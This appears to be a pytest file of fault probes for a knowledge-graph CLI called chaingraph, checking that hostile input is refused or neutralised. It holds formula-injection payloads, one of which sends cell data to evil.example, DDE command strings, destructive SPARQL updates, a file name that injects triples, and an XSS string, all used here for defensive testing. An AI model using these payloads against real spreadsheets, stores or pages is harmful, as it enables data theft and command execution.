@@ -1,0 +1,332 @@
+"""Issue #16's fault probes, each a fixture: hostile or unlucky input gives one clear error line,
+a non-zero exit and nothing lost, or correct work within bounds.
+
+Numbers in the test names follow the issue's findings (1 read-only query, 2 formula injection,
+3 hostile file names, 5 page marks, 6 merge locks and temporary files, 7 import losing rows,
+13 bad output paths …).
+"""
+
+from __future__ import annotations
+
+import json
+import multiprocessing
+import os
+import zipfile
+from pathlib import Path
+
+import pytest
+
+EVIL_FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+                 "+1+cmd|' /C calc'!A0", "-2+3"]
+
+
+def _one_line_error(r, *needles: str) -> None:
+    assert r.code != 0, r.out
+    assert "Traceback" not in r.err
+    lines = [ln for ln in r.err.splitlines() if ln.startswith(("error:", "Error:"))]  # ours, or click's usage error
+    assert len(lines) == 1, r.err
+    for n in needles:
+        assert n in lines[0], r.err
+
+
+def _count(run_cli, *global_args: str) -> int:
+    r = run_cli(*global_args, "query", "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }", "--format", "json")
+    assert r.code == 0, r.err
+    return r.json()[0]["n"]
+
+
+# ----------------------------------------------------------------------------- 1 read-only query
+
+
+@pytest.mark.parametrize("update", [
+    "CLEAR GRAPH <https://w3id.org/chaingraph/graph>",
+    "DROP ALL",
+    "INSERT DATA { cg:x cg:y cg:z }",
+    "DELETE WHERE { ?s ?p ?o }",
+    "DELETE { ?s ?p ?o } INSERT { ?s ?p 1 } WHERE { ?s ?p ?o }",
+    "LOAD <http://evil.example/x.ttl>",
+])
+def test_1_query_refuses_updates_on_the_embedded_store(run_cli, update):
+    before = _count(run_cli)
+    r = run_cli("query", update)
+    _one_line_error(r, "read-only", "refused")
+    assert "CONSTRUCT" not in r.err  # the old, misleading parser message
+    assert _count(run_cli) == before
+
+
+def test_1_query_refuses_service_unless_allowed(run_cli):
+    r = run_cli("query", "SELECT * WHERE { SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } }")
+    _one_line_error(r, "SERVICE", "--allow-service")
+    from chaingraph.sparql import check_read_only
+
+    check_read_only("SELECT * WHERE { SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } }", allow_service=True)
+
+
+def test_1_query_refuses_server_sql_functions(run_cli):
+    r = run_cli("query", "PREFIX bif: <bif:> SELECT * WHERE { ?s ?p ?o FILTER(bif:exec('x')) } LIMIT 1")
+    _one_line_error(r, "bif:exec")
+
+
+def test_1_bad_query_points_at_the_users_line(run_cli):
+    r = run_cli("query", "SELECT ?s\nWHERE { ?s a }")
+    _one_line_error(r, "bad SPARQL query", "line 2")
+
+
+# ----------------------------------------------------------------------------- 2 formula injection
+
+
+def _import_evil(run_cli, tmp_path) -> Path:
+    rows = ["name,products"] + ['"{}",液晶玻璃基板'.format(n.replace('"', '""')) for n in EVIL_FORMULAS]
+    p = tmp_path / "evil.csv"
+    p.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    r = run_cli("import", str(p))
+    assert r.code == 0, r.err
+    return p
+
+
+def test_2_xlsx_cells_are_text_never_formulas(run_cli, tmp_path):
+    from openpyxl import load_workbook
+
+    _import_evil(run_cli, tmp_path)
+    out = tmp_path / "t.xlsx"
+    r = run_cli("targets", "--segment", "玻璃基板", "--top", "0", "--format", "xlsx", "-o", str(out))
+    assert r.code == 0, r.err
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
+    names = {c.value for ws in load_workbook(out) for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    assert set(EVIL_FORMULAS) <= names
+
+
+def test_2_report_xlsx_is_written_by_the_same_safe_writer(run_cli, tmp_path):
+    _import_evil(run_cli, tmp_path)
+    r = run_cli("report", "-o", str(tmp_path / "rep"), "--chain", "先进电子器件", "--format", "json")
+    assert r.code == 0, r.err
+    assert r.json()["xlsx_writer"] == "chaingraph.cli.targets_cmds.write_xlsx"
+    with zipfile.ZipFile(tmp_path / "rep" / "targets.xlsx") as z:
+        assert not any("<f>" in z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
+
+
+def test_2_csv_cells_are_neutralised(run_cli, tmp_path):
+    import csv
+    import io
+
+    _import_evil(run_cli, tmp_path)
+    r = run_cli("targets", "--segment", "玻璃基板", "--top", "0", "--format", "csv")
+    assert r.code == 0, r.err
+    rows = list(csv.DictReader(io.StringIO(r.out)))
+    names = {row["name"] for row in rows}
+    assert {"'" + n for n in EVIL_FORMULAS} <= names
+    assert all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values() if v)
+    assert any(float(row["score"]) > 0 for row in rows)  # numbers stay numbers
+
+
+def test_2_excel_writer_survives_control_characters_and_long_cells(tmp_path):
+    from openpyxl import load_workbook
+
+    from chaingraph.excel import MAX_CELL, Sheet, write_workbook
+
+    write_workbook([Sheet("a[b]:c/d*?" * 5, ["名称"], [["骏捷\x01\x07智能"], ["长" * 40000], [1.5]])], tmp_path / "x.xlsx")
+    ws = load_workbook(tmp_path / "x.xlsx").active
+    assert ws["A2"].value == "骏捷智能" and len(ws["A3"].value) <= MAX_CELL and ws["A4"].value == 1.5
+
+
+# ----------------------------------------------------------------------------- 3 hostile file names
+
+
+def test_3_newline_in_an_imported_file_name_adds_no_triples(run_cli, tmp_path):
+    name = "list\ncg:Injected a cg:Company ; rdfs:label \"注入\"@zh .\n#.csv"
+    p = tmp_path / name
+    p.write_text("name,products\n甲电镀,电镀加工\n", encoding="utf-8")
+    r = run_cli("import", str(p))
+    assert r.code == 0, r.err
+    r = run_cli("query", "ASK { cg:Injected ?p ?o }")
+    assert r.code == 0 and r.out.strip() == "false"
+    assert run_cli("validate").code == 0
+
+
+def test_3_undecodable_file_name_writes_a_good_file(run_cli, tmp_path):
+    p = Path(os.fsdecode(bytes(tmp_path) + b"/\xff\xfe\x01.csv"))
+    p.write_text("name,products\n乙电镀,电镀加工\n", encoding="utf-8")
+    r = run_cli("import", str(p))
+    assert r.code == 0, r.err
+    r = run_cli("company", "乙电镀", "--format", "json")
+    assert r.code == 0, r.err
+
+
+# ----------------------------------------------------------------------------- 5 page template marks
+
+
+@pytest.mark.parametrize("label", ["@@CHAINGRAPH_VIEW_JSON@@", "@@CHAINGRAPH_JS@@ @@CHAINGRAPH_CSS@@", "</title><script>alert(1)</script>"])
+def test_5_park_label_with_page_marks(bundled_graph, label):
+    import re
+
+    from chaingraph.viz import build_view
+    from chaingraph.viz.page import page_html
+
+    view = build_view(bundled_graph, targets=0)
+    view["meta"]["title"] = label + " 全景图谱"
+    page = page_html(view)
+    data = re.search(r'<script type="application/json" id="cg-data">(.*?)</script>', page, re.S).group(1)
+    assert json.loads(data)["meta"]["title"] == label + " 全景图谱"
+    assert "@@CHAINGRAPH" not in page.replace(data, "")
+    assert "<script>alert(1)" not in page
+
+
+# ----------------------------------------------------------------------------- 6 merge locks, temp files
+
+
+def _staging(tmp_path: Path, n: int, tag: str) -> Path:
+    lines = ["@prefix cg: <https://w3id.org/chaingraph/ns#> .", "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .",
+             "@prefix company: <https://w3id.org/chaingraph/id/company/> ."]
+    for i in range(n):
+        lines.append(f'company:probe-{tag}-{i} a cg:Company ; rdfs:label "探针{tag}{i}号电镀科技"@zh .')
+    p = tmp_path / f"staging-{tag}.ttl"
+    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    return p
+
+
+def _merge_in_process(args):
+    home, staging = args
+    os.environ["CHAINGRAPH_HOME"] = home
+    os.environ["CHAINGRAPH_STORE"] = "memory"
+    from chaingraph.ingest.pipeline import merge_file
+    from chaingraph.store import GraphSource, load_files, user_data_dir
+
+    graph = load_files(GraphSource(include_bundled=False, include_user=False).files())
+    return merge_file(graph, Path(staging), user_data_dir())["added"]
+
+
+def test_6_concurrent_merges_keep_both(tmp_path, isolated_home):
+    a, b = _staging(tmp_path, 40, "a"), _staging(tmp_path, 40, "b")
+    ctx = multiprocessing.get_context("fork")
+    with ctx.Pool(2) as pool:
+        added = pool.map(_merge_in_process, [(str(isolated_home), str(a)), (str(isolated_home), str(b))])
+    assert all(n > 0 for n in added)
+    text = (isolated_home / "data" / "ingested.ttl").read_text(encoding="utf-8")
+    assert all(f"probe-a-{i}" in text and f"probe-b-{i}" in text for i in range(40))
+
+
+def test_6_leftover_temporary_files_are_not_loaded(run_cli, isolated_home):
+    data = isolated_home / "data"
+    data.mkdir()
+    (data / ".ingested-k9x2.ttl").write_text("@prefix cg: <https://w3id.org/chaingraph/ns#> .\ncg:a cg:b \"cut off", encoding="utf-8")
+    (data / ".ingested.ttl.abc.part").write_text("garbage", encoding="utf-8")
+    r = run_cli("stats")
+    assert r.code == 0, r.err
+
+
+# ----------------------------------------------------------------------------- 7 import losing rows
+
+
+def test_7_stray_quote_mid_field_keeps_every_row(run_cli, tmp_path):
+    p = tmp_path / "list.csv"
+    p.write_text('name,products\n甲"电镀,电镀加工\n乙电镀,电镀加工\n丙电镀,电镀加工\n', encoding="utf-8")
+    r = run_cli("import", str(p), "--format", "json")
+    assert r.code == 0, r.err
+    assert [f["name"] for f in r.json()["firms"]] == ['甲"电镀', "乙电镀", "丙电镀"]
+
+
+def test_7_stray_opening_quote_is_a_bad_row_and_swallows_nothing(run_cli, tmp_path):
+    p = tmp_path / "list.csv"
+    p.write_text('name,products\n"甲电镀,电镀加工\n乙电镀,电镀加工\n丙电镀,电镀加工\n', encoding="utf-8")
+    r = run_cli("import", str(p))
+    _one_line_error(r, "1 bad row", "nothing imported")
+    assert "row 2: unclosed quote" in r.err
+    r = run_cli("import", str(p), "--skip-bad", "--format", "json")
+    assert r.code == 0, r.err
+    assert "row 2: unclosed quote" in r.err
+    assert [f["name"] for f in r.json()["firms"]] == ["乙电镀", "丙电镀"]
+
+
+def test_7_skip_bad_with_no_good_row_is_an_error(run_cli, tmp_path):
+    p = tmp_path / "list.csv"
+    p.write_text("name,tiers\n甲,龙头\n乙,龙头\n", encoding="utf-8")
+    r = run_cli("import", str(p), "--skip-bad")
+    _one_line_error(r, "every row of", "is bad (2)", "nothing imported")
+    assert "row 2:" in r.err and "row 3:" in r.err
+
+
+def test_7_same_file_name_from_two_folders_keeps_both(run_cli, tmp_path, isolated_home):
+    for folder, firm in (("a", "甲电镀"), ("b", "乙电镀")):
+        (tmp_path / folder).mkdir()
+        (tmp_path / folder / "名单.csv").write_text(f"name,products\n{firm},电镀加工\n", encoding="utf-8")
+        assert run_cli("import", str(tmp_path / folder / "名单.csv")).code == 0
+    assert run_cli("import", str(tmp_path / "a" / "名单.csv")).code == 0  # re-import replaces its own file
+    assert len(list((isolated_home / "data" / "imports").glob("*.ttl"))) == 2
+    for firm in ("甲电镀", "乙电镀"):
+        assert run_cli("company", firm).code == 0
+
+
+def test_7_header_only_csv_is_an_error(run_cli, tmp_path, isolated_home):
+    p = tmp_path / "list.csv"
+    p.write_text("name,products\n", encoding="utf-8")
+    _one_line_error(run_cli("import", str(p)), "no rows after the header")
+    assert not (isolated_home / "data" / "imports").exists()
+
+
+# ----------------------------------------------------------------------------- 10 bounded work
+
+
+def test_10_long_row_is_quoted_once_not_per_segment_link(tmp_path):
+    from chaingraph.pool.chainkg import segments_from_graph
+    from chaingraph.pool.csv_import import import_csv
+    from chaingraph.store import GraphSource, open_graph
+
+    segs = segments_from_graph(open_graph(GraphSource(include_user=False)))
+    terms = [t for s in segs for t in s["terms"]][:400]
+    sizes = []
+    for n, note in enumerate(("备注" * 1000, "备注" * 5000)):
+        p = tmp_path / f"wide{n}.csv"
+        p.write_text("name,products,note\n宽行企业,{},{}\n".format("；".join(terms), note), encoding="utf-8")
+        rep = import_csv(p, segs, out_dir=tmp_path / "out")
+        assert len(rep["firms"][0]["segments"]) > 20
+        sizes.append((p.stat().st_size, Path(rep["written"]).stat().st_size))
+    (in0, out0), (in1, out1) = sizes
+    assert out1 - out0 < 3 * (in1 - in0), sizes  # the row's text appears a bounded number of times
+
+
+def test_13_row_over_128_kib_is_a_bad_row(run_cli, tmp_path):
+    p = tmp_path / "big.csv"
+    p.write_text("name,note\n甲,{}\n乙,短\n".format("长" * 140_000), encoding="utf-8")
+    r = run_cli("import", str(p))
+    _one_line_error(r, "1 bad row")
+    assert "row 2: row too long" in r.err
+
+
+# ----------------------------------------------------------------------------- 13 bad output paths
+
+
+@pytest.mark.parametrize("args,needle", [
+    (("targets", "--format", "xlsx", "-o", "{dir}"), "is a directory"),
+    (("targets", "--format", "xlsx", "-o", "{file}/x.xlsx"), "cannot write"),
+    (("targets", "--format", "csv", "-o", "{file}/x.csv"), "cannot write"),
+    (("viz", "-o", "{dir}"), "is a directory"),
+    (("viz", "-o", "{file}/map.html"), "cannot write"),
+    (("report", "-o", "{file}"), "is a file"),
+    (("report", "-o", "{file}/sub"), "cannot write"),
+    (("ingest", "{article}", "-o", "{dir}"), "is a directory"),
+    (("ingest", "{article}", "-o", "{file}/s.ttl"), "cannot write"),
+])
+def test_13_bad_output_paths_are_one_error(run_cli, tmp_path, args, needle):
+    (tmp_path / "d").mkdir()
+    (tmp_path / "f").write_text("keep me", encoding="utf-8")
+    article = tmp_path / "a.txt"
+    article.write_text("湖南骏捷智能科技有限公司落户永州经开区。", encoding="utf-8")
+    fill = {"dir": str(tmp_path / "d"), "file": str(tmp_path / "f"), "article": str(article)}
+    r = run_cli(*[a.format(**fill) for a in args])
+    _one_line_error(r, needle)
+    assert (tmp_path / "f").read_text(encoding="utf-8") == "keep me"
+    assert list((tmp_path / "d").iterdir()) == []
+
+
+def test_13_unwritable_output_folder(run_cli, tmp_path):
+    if os.geteuid() == 0:
+        pytest.skip("root writes anywhere")
+    ro = tmp_path / "ro"
+    ro.mkdir()
+    ro.chmod(0o500)
+    try:
+        _one_line_error(run_cli("viz", "-o", str(ro / "map.html")), "cannot write", "Permission denied")
+    finally:
+        ro.chmod(0o700)
